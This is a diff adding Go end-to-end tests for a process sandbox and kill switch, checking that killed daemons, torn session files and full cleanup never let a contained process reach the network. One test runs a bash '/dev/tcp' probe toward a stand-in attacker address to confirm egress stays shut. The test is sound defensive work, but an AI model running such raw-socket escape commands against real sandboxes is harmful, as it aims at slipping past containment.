@@ -1,0 +1,112 @@
+package e2e
+
+import (
+	"errors"
+	"fmt"
+	"net/http"
+	"os"
+	"strings"
+	"testing"
+
+	"golang.org/x/sys/unix"
+
+	"tagout/internal/instance"
+	"tagout/internal/wire"
+)
+
+// TestKilledDaemonsOpenNothing kills each daemon with -9 while a kid lives (invariant 1). The supervisor brings
+// it back, and in between and afterwards the raw way out stays shut and the card's road opens again.
+func TestKilledDaemonsOpenNothing(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	kid := box.Spawn(card, hostile(t, box))
+	fetch := "exec 3<>/dev/tcp/files.vendor.test/80; printf 'GET /hello.txt HTTP/1.1\\r\\nHost: files.vendor.test\\r\\nConnection: close\\r\\n\\r\\n' >&3; head -1 <&3"
+	for _, daemon := range instance.Daemons() {
+		box.Kill9(daemon)
+		if daemon != instance.Sandboxd { // without sandboxd nobody runs the probe; it is tried below
+			// While killswitchd is dead nothing starts, so the command itself may be refused.
+			out, err := box.TryExec(t.Context(), kid.Name, wire.ExecRequest{Argv: []string{"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%v/80", box.Net.EvilAddr())}})
+			if err == nil && out.Exit.Code == 0 {
+				t.Errorf("with %s dead the kid got out", daemon)
+			}
+		}
+		box.WaitHealthy(daemon)
+		box.Until(soon, "the road is open again after "+daemon, func() error {
+			out := box.Exec(kid.Name, "/bin/bash", "-c", fetch)
+			if !strings.HasPrefix(out.Stdout, "HTTP/1.1 200") {
+				return fmt.Errorf("%q %q", out.Stdout, out.Stderr)
+			}
+			return nil
+		})
+	}
+	if _, n := box.Net.Attacker.Total(); n != 0 {
+		t.Errorf("%d bytes reached the attacker", n)
+	}
+}
+
+// TestTagsSurviveKill9 (S13, invariant 6).
+func TestTagsSurviveKill9(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	kid := box.Spawn(bareCard, nil)
+	rep := box.Stop(wire.StopRequest{Scope: wire.Scope{Kid: kid.Name}})
+	box.Kill9(instance.Killswitchd)
+	box.WaitHealthy(instance.Killswitchd)
+	var tags []wire.Tag
+	if err := box.Client(instance.Killswitchd).Call(t.Context(), http.MethodGet, "/v1/tags", nil, &tags); err != nil {
+		t.Fatal(err)
+	}
+	if len(tags) != 1 || tags[0].Stop != rep.Stop || tags[0].Scope.Kid != kid.Name {
+		t.Fatalf("tags after the restart: %+v", tags)
+	}
+}
+
+// TestCleanupAfterEverythingWasKilled (invariant 8): `tagout cleanup` alone removes a box whose supervisor,
+// daemons and test were all killed with -9; testenv then checks that nothing is left.
+func TestCleanupAfterEverythingWasKilled(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	kid := box.Spawn(card, hostile(t, box))
+	box.StopSupervisor(unix.SIGKILL)
+	for _, daemon := range instance.Daemons() {
+		box.Kill9(daemon)
+	}
+	// Contained with nobody alive: the kid's processes are still there, and its network is still shut.
+	raw, err := os.ReadFile(kid.Cgroup + "/cgroup.events")
+	if err != nil || !strings.Contains(string(raw), "populated 1") {
+		t.Fatalf("the kid is gone before cleanup: %s %v", raw, err)
+	}
+	box.Must("cleanup")
+	if _, err := os.Stat(kid.Cgroup); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("the kid's cgroup is still there: %v", err)
+	}
+}
+
+// TestHalfWrittenSessionIsDenied (invariant 1): a torn document must not open anything or stop the others.
+func TestHalfWrittenSessionIsDenied(t *testing.T) {
+	t.Parallel()
+	box := start(t)
+	torn, whole := box.Spawn(card, hostile(t, box)), box.Spawn(card, hostile(t, box))
+	path := box.Inst.SessionDir() + "/" + torn.Name + ".json"
+	raw, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, raw[:len(raw)/2], 0o640); err != nil {
+		t.Fatal(err)
+	}
+	for _, daemon := range []string{instance.Proxy, instance.DNSFilter} {
+		box.Kill9(daemon)
+		box.WaitHealthy(daemon)
+	}
+	look := "exec 3<>/dev/tcp/files.vendor.test/80; printf 'GET /hello.txt HTTP/1.1\\r\\nHost: files.vendor.test\\r\\nConnection: close\\r\\n\\r\\n' >&3; head -1 <&3"
+	if out := box.Exec(torn.Name, "/bin/bash", "-c", look); strings.Contains(out.Stdout, "200") {
+		t.Errorf("a session whose document is torn still gets out")
+	}
+	box.Until(soon, "the other kid works", func() error {
+		if out := box.Exec(whole.Name, "/bin/bash", "-c", look); !strings.Contains(out.Stdout, "200") {
+			return fmt.Errorf("%q %q", out.Stdout, out.Stderr)
+		}
+		return nil
+	})
+}
